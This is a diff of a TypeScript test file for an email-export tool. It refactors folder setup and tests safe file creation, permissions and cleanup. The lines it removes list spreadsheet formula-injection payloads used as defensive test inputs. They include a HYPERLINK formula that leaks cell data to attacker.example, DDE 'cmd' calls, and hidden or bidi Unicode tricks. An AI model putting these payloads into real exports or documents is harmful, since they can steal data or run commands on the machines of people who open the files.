@@ -15,22 +15,17 @@ import {
 } from 'node:fs';
 import { syncBuiltinESMExports } from 'node:module';
 import { join } from 'node:path';
-import { parse } from 'csv-parse/sync';
 import { describe, expect, test, vi } from 'vitest';
 import { createExportFile, exportFolder } from '../../src/changes/emails/export-file.ts';
 import { agree } from '../changes/support/confirm.ts';
 import { hiddenIn } from '../harness/hidden-text.ts';
+import { ATTACKS } from '../harness/planting.ts';
 import { startService } from '../harness/service.ts';
-import { freshHome, start } from '../harness/start.ts';
+import { freshHome, homeWithFiles, start } from '../harness/start.ts';
+import { serviceWith } from './emails-support.ts';
 
 const TOOL = 'get_collected_emails';
 const NEVER = { VIDEO_HOSTING_CONFIRM: 'never' };
-
-function folderIn(home: string): string {
-  const folder = join(home, 'files');
-  mkdirSync(folder);
-  return folder;
-}
 
 describe('the folder for files', () => {
   const places: readonly (readonly [string, (path: string) => void])[] = [
@@ -59,16 +54,8 @@ describe('the folder for files', () => {
     });
   });
 
-  test('that is not set is named in the error', async () => {
-    const { client, hasData } = await start({ env: NEVER });
-    const reply = await client.callTool(TOOL, { exportAs: 'csv' });
-    expect(hasData()).toBe(false);
-    expect(reply).toMatchObject({ isError: true, text: expect.stringContaining('Set VIDEO_HOSTING_FILES_DIR') });
-  });
-
   test('can be a symbolic link: files are written to its target', async () => {
-    const home = freshHome();
-    const real = folderIn(home);
+    const { home, folder: real } = homeWithFiles();
     symlinkSync(real, join(home, 'link'));
     const { client } = await start({ home, env: { ...NEVER, VIDEO_HOSTING_FILES_DIR: join(home, 'link') } });
     const reply = await client.callTool(TOOL, { exportAs: 'csv' });
@@ -76,8 +63,8 @@ describe('the folder for files', () => {
   });
 
   test('that is replaced by a link during an export receives no file', async () => {
-    const home = freshHome();
-    const [folder, elsewhere] = [folderIn(home), join(home, 'elsewhere')];
+    const { home, folder } = homeWithFiles();
+    const elsewhere = join(home, 'elsewhere');
     mkdirSync(elsewhere);
     const real = await exportFolder([folder]);
     renameSync(folder, join(home, 'moved'));
@@ -92,8 +79,7 @@ describe('the folder for files', () => {
 
 describe('an exported file', () => {
   test('never replaces an existing file or follows a link', async () => {
-    const home = freshHome();
-    const folder = folderIn(home);
+    const { home, folder } = homeWithFiles();
     const victim = join(home, 'victim');
     writeFileSync(victim, 'precious');
     // The random part of the name is fixed, so that the test knows the name.
@@ -116,7 +102,7 @@ describe('an exported file', () => {
   });
 
   test('is readable only by its owner, also while it is written and with a umask of 0', async () => {
-    const folder = folderIn(freshHome());
+    const { folder } = homeWithFiles();
     const mask = process.umask(0);
     try {
       const { path } = await createExportFile(folder, 'emails', 'csv', async (write) => {
@@ -132,7 +118,7 @@ describe('an exported file', () => {
   });
 
   test('is removed if it can’t be finished, and its name contains no path', async () => {
-    const folder = folderIn(freshHome());
+    const { folder } = homeWithFiles();
     const fails = createExportFile(folder, '../../evil\u0000\n/name', 'csv', async (write) => {
       await write('half');
       expect(readdirSync(folder)).toEqual([expect.stringMatching(/^[\w.-]+\.csv\.unfinished$/)]);
@@ -143,7 +129,7 @@ describe('an exported file', () => {
   });
 
   test('that a killed process left unfinished is removed by the next export, and other files stay', async () => {
-    const folder = folderIn(freshHome());
+    const { folder } = homeWithFiles();
     const stale = join(folder, 'emails-2026-01-01-0011.csv.unfinished');
     const fresh = join(folder, 'emails-2026-01-02-0022.csv.unfinished');
     const others = ['notes.csv.unfinished', 'emails-2026-01-01-0011.csv', 'emailsx-2026.unfinished'];
@@ -155,10 +141,9 @@ describe('an exported file', () => {
   });
 
   test('is not left unfinished by a server that gets SIGTERM', async () => {
-    const home = freshHome();
-    const folder = folderIn(home);
+    const { home, folder, env } = homeWithFiles(NEVER);
     const demo = await startService();
-    const { client, server } = await start({ demo, home, via: 'process', env: { ...NEVER, VIDEO_HOSTING_FILES_DIR: folder } });
+    const { client, server } = await start({ demo, home, via: 'process', env });
     demo.faults.next({ match: { path: /collected-emails/ }, skip: 1, do: { kind: 'drip', bytes: 2_000, ms: 20 } });
     client.callTool(TOOL, { exportAs: 'csv' }).catch(() => undefined);
     await vi.waitFor(() => expect(readdirSync(folder)).toHaveLength(1), { timeout: 300_000 });
@@ -170,9 +155,8 @@ describe('an exported file', () => {
 
 describe('every file and folder in the data folder', () => {
   test('is accessible only to its owner', async () => {
-    const home = freshHome();
-    const folder = folderIn(home);
-    const { client, demo, dataDir } = await start({ home, env: { ...NEVER, VIDEO_HOSTING_FILES_DIR: folder } });
+    const { home, env } = homeWithFiles(NEVER);
+    const { client, demo, dataDir } = await start({ home, env });
     const [, target] = [...demo.world.projects.values()];
     demo.world.poisonedVideoIds.add([...demo.world.videos.keys()][2] ?? '');
     await client.callTool('move_videos', { videoIds: [...demo.world.videos.keys()].slice(0, 5), targetProject: target?.id });
@@ -188,75 +172,16 @@ describe('every file and folder in the data folder', () => {
   });
 });
 
-describe('an export of hostile texts', () => {
-  const ATTACKS = [
-    '=HYPERLINK("https://attacker.example/?"&A1,"click")',
-    "=cmd|' /C calc'!A0",
-    '+cmd|calc!A0',
-    '-2+3',
-    '@SUM(1+1)',
-    '\t=1+1',
-    '\r=1+1',
-    '\n=1+1',
-    ' =1+1',
-    '\u00a0=1+1',
-    '\u200b=1+1',
-    '\ufeff=1+1',
-    '\u0000=1+1',
-    '\uff1d1+1',
-    '\uff0b1+1',
-    '\uff0d1+1',
-    '\uff20SUM(1)',
-    'Ada;=1+1',
-    'Ada\t=1+1',
-    'Ada"\n=1+1',
-    '"=1+1"',
-    '\u001b]0;title\u0007\u001b[2J',
-    'bidi \u202egnp.exe\u202c',
-    '\u{e0049}\u{e0067} tags',
-    'line\u2028separator',
-  ];
-
-  test('as CSV starts no formula with any delimiter, and has no hidden characters', async () => {
-    const home = freshHome();
-    const folder = folderIn(home);
-    const demo = await startService();
-    const created = '2026-10-01T00:00:00Z';
-    demo.world.emails.splice(
-      0,
-      Number.POSITIVE_INFINITY,
-      ...ATTACKS.map((text) => ({ fullName: text, email: text, mobileNumber: text, videoKey: text, channelKey: text, created })),
-    );
-    const { client } = await start({ demo, home, env: { ...NEVER, VIDEO_HOSTING_FILES_DIR: folder } });
-    expect((await client.callTool(TOOL, { exportAs: 'csv' })).data).toMatchObject({ written: ATTACKS.length });
-    const text = readFileSync(join(folder, readdirSync(folder)[0] ?? ''), 'utf8');
-    expect(text).not.toContain('\r');
-    expect(hiddenIn(JSON.stringify(text))).toEqual([]);
-    for (const delimiter of [',', ';', '\t', '|']) {
-      const rows: string[][] = parse(text, { delimiter, relax_column_count: true, relax_quotes: true });
-      for (const cell of rows.flat()) expect(cell.trimStart()).not.toMatch(/^[=+\-@\uff1d\uff0b\uff0d\uff20]/);
-    }
-    // Harmless text is unchanged.
-    expect(text).toContain('bidi gnp.exe');
-  });
-
-  test('as JSON keeps every text exactly, and has no hidden characters', async () => {
-    const home = freshHome();
-    const folder = folderIn(home);
-    const demo = await startService();
-    demo.world.emails.splice(
-      0,
-      Number.POSITIVE_INFINITY,
-      ...ATTACKS.map((text) => ({ fullName: text, email: text, mobileNumber: '', videoKey: 'v', channelKey: '', created: '' })),
-    );
-    const { client } = await start({ demo, home, env: { ...NEVER, VIDEO_HOSTING_FILES_DIR: folder } });
-    await client.callTool(TOOL, { exportAs: 'json' });
-    const text = readFileSync(join(folder, readdirSync(folder)[0] ?? ''), 'utf8');
-    const records: { fullName: string }[] = JSON.parse(text);
-    expect(records.map(({ fullName }) => fullName)).toEqual(ATTACKS);
-    // Line breaks separate the records.
-    expect(hiddenIn(JSON.stringify(text.replaceAll('\\', '/')))).toEqual([]);
-  });
+test('an export of hostile texts as JSON keeps each exactly, and has no hidden characters', async () => {
+  const { home, folder, env } = homeWithFiles(NEVER);
+  const demo = await serviceWith(Object.values(ATTACKS).map((text) => ({ fullName: text, email: text, videoKey: 'v', created: '' })));
+  const { client } = await start({ demo, home, env });
+  await client.callTool(TOOL, { exportAs: 'json' });
+  const text = readFileSync(join(folder, readdirSync(folder)[0] ?? ''), 'utf8');
+  const records: { fullName: string }[] = JSON.parse(text);
+  expect(records.map(({ fullName }) => fullName)).toEqual(Object.values(ATTACKS));
+  // Line breaks separate the records.
+  expect(hiddenIn(JSON.stringify(text.replaceAll('\\', '/')))).toEqual([]);
 });
 
 test('an export writes an empty file if all emails are deleted after the plan', async () => {
@@ -264,10 +189,9 @@ test('an export writes an empty file if all emails are deleted after the plan', 
     ['csv', 'fullName,email,mobileNumber,videoKey,channelKey,created\n'],
     ['json', '[\n]\n'],
   ] as const) {
-    const home = freshHome();
-    const folder = folderIn(home);
+    const { home, folder, env } = homeWithFiles(NEVER);
     const demo = await startService();
-    const { client } = await start({ demo, home, env: { ...NEVER, VIDEO_HOSTING_FILES_DIR: folder } });
+    const { client } = await start({ demo, home, env });
     // The plan has counted the emails before they are deleted.
     demo.behaviour.onProcessed = () => {
       demo.world.emails.length = 0;
